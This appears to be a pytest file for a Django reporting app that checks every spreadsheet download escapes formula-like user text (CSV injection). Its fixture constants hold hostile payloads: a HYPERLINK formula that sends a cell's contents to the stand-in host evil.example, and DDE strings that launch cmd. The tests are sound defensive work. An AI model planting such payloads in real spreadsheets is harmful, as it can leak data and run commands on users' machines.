"""No spreadsheet the app writes carries a live formula (CWE-1236, "CSV injection").

Text people type (an indicator's name, a narrative) reaches every download: the open-data
CSV, the yearly report, the import template and admin's indicator export. Each is fetched
in each of its formats with hostile text in those fields and read back as a spreadsheet
would read it: csv text that starts like a formula carries a leading apostrophe, an xlsx
cell is never of type "f", an ods cell is string-typed with no table:formula. Numbers
stay numbers. The JSON open data is not a spreadsheet and keeps the text as written.

`test_every_spreadsheet_download_is_checked_here` walks every route (the permission walk's
table, which `test_every_url_is_walked` keeps complete) and fails when a route answers with
a spreadsheet that is not in `DOWNLOADS`; `test_every_admin_export_escapes` does the same
for admin's exports.
"""

from __future__ import annotations

import csv
import datetime
import io
from dataclasses import dataclass
from decimal import Decimal

import openpyxl
import pytest
import tablib
from django.contrib import admin
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import FileResponse
from django.urls import reverse
from import_export.admin import ExportMixin
from odf import opendocument
from odf.namespaces import OFFICENS, TABLENS
from odf.table import TableCell

from common.spreadsheets import admin_formats, writing
from kpi import importers, services
from kpi.admin import IndicatorAdmin
from kpi.models import Indicator, ReportingPeriod
from plans.models import PublishedYear
from tests.downloads import city_download
from tests.factories import kpi_by_code
from tests.test_permissions import ACTIONS, ACTORS, EXPECTED, walk_world  # noqa: F401 (a fixture)

NAME = '=HYPERLINK("https://evil.example/?x="&A1,"x")'
NARRATIVE = "@SUM(1+1)*cmd|' /C calc'!A0"
DRAFT = "+cmd|' /C notepad'!A0"
PERSON = "-2+3+cmd|' /C calc'!A0"  # a person's name, as the account list writes it
SPREADSHEET_TYPES = ("text/csv", writing.FORMATS["xlsx"], writing.FORMATS["ods"])
# Downloads that are documents, not spreadsheets: no cell of theirs can hold a formula.
DOCUMENT_TYPES = ("application/pdf", "application/vnd.oasis.opendocument.text")


@dataclass
class Hostile:
    indicator: Indicator
    period: ReportingPeriod  # 114Q1, open: the import template's default


@pytest.fixture
def hostile(cast, settings, seeded_plan):
    """1-1 named like a formula, with an approved 113Q4 narrative and a 114Q1 draft that start like formulas too."""
    settings.KPI_TODAY = datetime.date(2025, 4, 10)
    services.periods_ensure(plan=seeded_plan)
    periods = {p.short_label: p for p in ReportingPeriod.objects.filter(plan=seeded_plan)}
    indicator = kpi_by_code("1-1")
    Indicator.objects.filter(pk=indicator.pk).update(name=NAME)
    indicator.refresh_from_db()
    staff = cast["staff"]
    type(staff).objects.filter(pk=staff.pk).update(first_name=PERSON)
    report = services.report_save(
        indicator=indicator,
        period=periods["113Q4"],
        user=staff,
        actual=str(indicator.targets.get(year=113).value),
        narrative=NARRATIVE,
    )
    report = services.report_submit(report=report, user=staff)
    services.report_approve(report=report, user=cast["supervisor"])
    services.report_save(indicator=indicator, period=periods["114Q1"], user=staff, actual="1", narrative=DRAFT)
    PublishedYear.objects.create(plan=seeded_plan, year=113, published_by=cast["admin"])
    return Hostile(indicator=indicator, period=periods["114Q1"])


def _admin_export(client, _hostile, fmt):
    index = [f.fmt for f in IndicatorAdmin.export_formats].index(fmt)
    return client.post(reverse("admin:kpi_indicator_export"), {"resource": "0", "format": str(index)})


# download → (who fetches it, its formats, how to fetch it, the hostile texts it carries)
DOWNLOADS = {
    "open_data_csv": ("anonymous", ["csv"], lambda c, h, f: c.get("/open-data/attainment/113.csv"), [NAME, NARRATIVE]),
    "yearly_download": (
        "staff",
        ["xlsx", "ods", "csv"],
        lambda c, h, f: c.get(
            reverse("reports:yearly_download"),
            {"format": f, "year": 113, "department": h.indicator.department_plan.department_id},
        ),
        [NAME, NARRATIVE],
    ),
    "yearly_export_file": (
        "planner",
        ["xlsx", "ods", "csv"],
        lambda c, h, f: city_download(c, f, 113),
        [NAME, NARRATIVE],
    ),
    "report_import_template": (
        "staff",
        ["xlsx", "ods", "csv"],
        lambda c, h, f: c.get(reverse("kpi:report_import_template"), {"format": f, "period": h.period.pk}),
        [NAME, DRAFT],
    ),
    "admin_indicator_export": ("admin", ["xlsx", "ods", "csv"], _admin_export, [NAME]),
    "plan_workbook": (
        "planner",
        ["xlsx", "ods"],
        lambda c, h, f: c.get(
            reverse("kpi:plan_workbook", args=[h.period.plan_id, h.indicator.department_plan.department_id]),
            {"format": f},
        ),
        [NAME],
    ),
    # Everyone who holds a role, as a file to edit and upload again (plans.people).
    "user_import_template": (
        "admin",
        ["xlsx", "ods", "csv"],
        lambda c, h, f: c.get(reverse("kpi:user_import_template"), {"format": f}),
        [PERSON],
    ),
    # The empty template carries no one's text: its row labels stand in (read back as text).
    "plan_workbook_template": (
        "planner",
        ["xlsx", "ods"],
        lambda c, h, f: c.get(reverse("kpi:plan_workbook_template", args=[h.period.plan_id]), {"format": f}),
        ["使命"],
    ),
}
CASES = [(name, fmt) for name, (_actor, formats, _fetch, _texts) in DOWNLOADS.items() for fmt in formats]


# --- reading a file back as a spreadsheet would -------------------------------------------


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def xlsx_cells(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))  # not read-only: every cell keeps its data_type
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def ods_cells(content: bytes) -> list[tuple[str, str | None, bool]]:
    """Every cell as (its text or number, its office:value-type, whether it carries a table:formula)."""
    document = opendocument.load(io.BytesIO(content))
    return [
        (
            str(cell) or cell.attributes.get((OFFICENS, "value"), ""),
            cell.attributes.get((OFFICENS, "value-type")),
            (TABLENS, "formula") in cell.attributes,
        )
        for cell in document.spreadsheet.getElementsByType(TableCell)
    ]


# Downloads with no figure in them (a list of people): nothing to check "numbers stay numbers" on.
WITHOUT_NUMBERS = {"user_import_template"}


def assert_inert(fmt: str, content: bytes, texts: list[str], numbers: bool = True) -> None:
    if fmt == "csv":
        cells = csv_cells(content)
        for text in texts:
            assert text not in cells, f"{text!r} is written raw: a spreadsheet runs it as a formula"
            assert "'" + text in cells, f"{text!r} is missing (with its apostrophe)"
        # A code is written as Excel's text literal (="1-1": writing.excel_code), a formula that is
        # only a quoted string: inert, and never around formula-like text.
        literals = [c for c in cells if writing.EXCEL_LITERAL.fullmatch(c)]
        assert not [c for c in literals if writing.is_formula_text(writing.csv_text_read(c))]
        assert not [c for c in cells if writing.is_formula_text(c) and c not in literals]
    elif fmt == "xlsx":
        cells = xlsx_cells(content)
        formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
        assert formulas == [], f"formula cells: {formulas}"
        for text in texts:
            matches = [c for c in cells if c.value == text]
            assert matches, f"{text!r} is missing"
            assert {c.data_type for c in matches} == {"s"}
        assert not numbers or any(c.data_type == "n" and isinstance(c.value, int | float) for c in cells), (
            "numbers became text"
        )
    else:
        cells = ods_cells(content)
        assert [c for c in cells if c[2]] == [], "a cell carries a table:formula"
        for text in texts:
            types = {value_type for cell_text, value_type, _formula in cells if cell_text == text}
            assert types == {"string"}, f"{text!r}: {types or 'missing'}"
        assert not numbers or any(value_type == "float" for _text, value_type, _formula in cells), "numbers became text"
        # tablib (what django-import-export reads an ods with) reads the text back as written.
        book = tablib.Databook().load(content, "ods")
        assert any(text in row for sheet in book.sheets() for row in sheet for text in texts)


@pytest.mark.parametrize(("download", "fmt"), CASES, ids=[f"{d}-{f}" for d, f in CASES])
def test_hostile_text_is_inert_in_every_download(client, cast, hostile, download, fmt):
    actor, _formats, fetch, texts = DOWNLOADS[download]
    if cast[actor] is not None:
        client.force_login(cast[actor])

    response = fetch(client, hostile, fmt)

    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].split(";")[0] == writing.FORMATS[fmt].split(";")[0]
    assert_inert(fmt, response.content, texts, numbers=download not in WITHOUT_NUMBERS)


def test_json_open_data_keeps_the_text_as_written(client, hostile):
    """JSON is not a spreadsheet: no apostrophe, the narrative exactly as approved."""
    document = client.get("/open-data/attainment/113.json").json()
    record = next(r for r in document["indicators"] if r["name"] == NAME)
    assert record["narrative"] == NARRATIVE


# --- the rule itself ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "escaped"),
    [
        ("=1+1", True),
        ("+1+1", True),
        ("-1+1", True),
        ("@SUM(A1)", True),
        ("\t=1", True),
        ("\r=1", True),
        ("- 辦理說明會", True),
        ("-5", False),  # a number written as text is that number, nothing more
        ("+1.5", False),
        ("-.5e3", False),
        ("已完成。", False),
        ("1=1", False),
        ("", False),
        (Decimal("-5"), False),
        (-5, False),
        (None, False),
    ],
)
def test_what_counts_as_a_formula(value, escaped):
    assert writing.is_formula_text(value) is escaped
    assert writing.csv_text(value) == (f"'{value}" if escaped else value)
    assert writing.csv_text_read(writing.csv_text(value)) == value


def test_negative_numbers_stay_numbers_in_every_format():
    sheet = writing.Sheet(title="t", headers=["名稱", "實際值"], rows=[["=1+1", Decimal("-5")], ["-2", -3]])
    assert csv_cells(writing.render("csv", [sheet])) == ["名稱", "實際值", "'=1+1", "-5", "-2", "-3"]
    cells = {c.coordinate: c for c in xlsx_cells(writing.render("xlsx", [sheet]))}
    assert (cells["B2"].data_type, cells["B2"].value) == ("n", -5)
    assert (cells["B3"].data_type, cells["B3"].value) == ("n", -3)
    assert (cells["A2"].data_type, cells["A2"].value) == ("s", "=1+1")
    ods = ods_cells(writing.render("ods", [sheet]))
    assert ("-5", "float", False) in ods
    assert ("=1+1", "string", False) in ods


# --- nothing skips the rule -----------------------------------------------------------------


def _first_allowed(action: str) -> str | None:
    """An actor who gets the action's page or file (200), if any."""
    row = EXPECTED[action]
    return next((actor for actor, expected in zip(ACTORS, row, strict=True) if expected == 200), None)


def test_every_spreadsheet_download_is_checked_here(client, cast, walk_world):  # noqa: F811 (the fixture)
    """Every route of the walk, fetched by someone allowed: a spreadsheet answer must be in DOWNLOADS."""
    found = set()
    for action, build in ACTIONS.items():
        method, url, _data = build(walk_world)
        actor = _first_allowed(action)
        if method != "get" or actor is None:
            continue
        client.logout()
        if cast[actor] is not None:
            client.force_login(cast[actor])
        response = client.get(url)
        content_type = response.get("Content-Type", "").split(";")[0]
        attachment = "attachment" in response.get("Content-Disposition", "")
        if content_type in SPREADSHEET_TYPES or (attachment and content_type not in DOCUMENT_TYPES):
            if isinstance(response, FileResponse):
                b"".join(response.streaming_content)
                if getattr(response, "file_to_stream", None):
                    response.file_to_stream.close()
                if action.startswith("evidence_"):  # evidence: the uploaded file, served as it came
                    continue
            found.add(action)
    assert found - set(DOWNLOADS) == set(), "a spreadsheet download that tests/test_formula_escaping.py does not check"
    assert found == set(DOWNLOADS) - {"admin_indicator_export"}  # the walk does see them (admin: below)


def test_every_admin_export_escapes():
    """Any admin with django-import-export's export offers only the formats written by common.spreadsheets."""
    exporting = [model_admin for model_admin in admin.site._registry.values() if isinstance(model_admin, ExportMixin)]
    assert exporting, "no admin exports anything: this test checks nothing"
    for model_admin in exporting:
        formats = model_admin.get_export_formats()
        assert formats
        assert all(issubclass(f, admin_formats.EscapedExport) for f in formats), (model_admin, formats)


# --- a csv read back: the apostrophe goes again -------------------------------------------------


@pytest.mark.parametrize("fmt", ["xlsx", "ods", "csv"])
def test_admin_export_imported_unchanged_changes_nothing(client, admin_user, hostile, fmt):
    client.force_login(admin_user)
    content = _admin_export(client, hostile, fmt).content
    fmt_class = {f.fmt: f for f in admin_formats.EXPORT_FORMATS}[fmt]
    index = [f().get_title() for f in IndicatorAdmin.formats].index(fmt_class().get_title())

    preview = client.post(
        reverse("admin:kpi_indicator_import"),
        {"resource": "0", "format": str(index), "import_file": SimpleUploadedFile(f"indicators.{fmt}", content)},
    )

    result = preview.context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    assert result.totals["skip"] == Indicator.objects.count()  # the name read back is the name stored
    hostile.indicator.refresh_from_db()
    assert hostile.indicator.name == NAME


@pytest.mark.parametrize("fmt", ["xlsx", "ods", "csv"])
def test_import_template_filled_in_reads_back_as_written(client, staff, hostile, fmt):
    client.force_login(staff)
    template = client.get(reverse("kpi:report_import_template"), {"format": fmt, "period": hostile.period.pk})

    result = importers.import_reports(template.content, f"template.{fmt}", user=staff, dry_run=True)

    row = next(r for r in result.rows if r.indicator is not None and r.indicator.pk == hostile.indicator.pk)
    assert row.errors == []
    assert row.outcome == importers.UNCHANGED, row.changes  # the narrative read back is the draft's


def test_only_the_apostrophe_csv_text_adds_is_taken_off():
    assert writing.csv_text_read("'=1+1") == "=1+1"
    assert writing.csv_text_read("'- 辦理說明會") == "- 辦理說明會"
    assert writing.csv_text_read("'twas") == "'twas"
    assert writing.csv_text_read("'-5") == "'-5"  # csv_text never escapes a number
    assert writing.csv_text_read(Decimal("-5")) == Decimal("-5")
    assert writing.csv_text("'=1") == "''=1"  # read back as written
    for value in ["=1+1", "@A1", "'=1", "''+1", "'twas", "已完成。", "-5"]:
        assert writing.csv_text_read(writing.csv_text(value)) == value
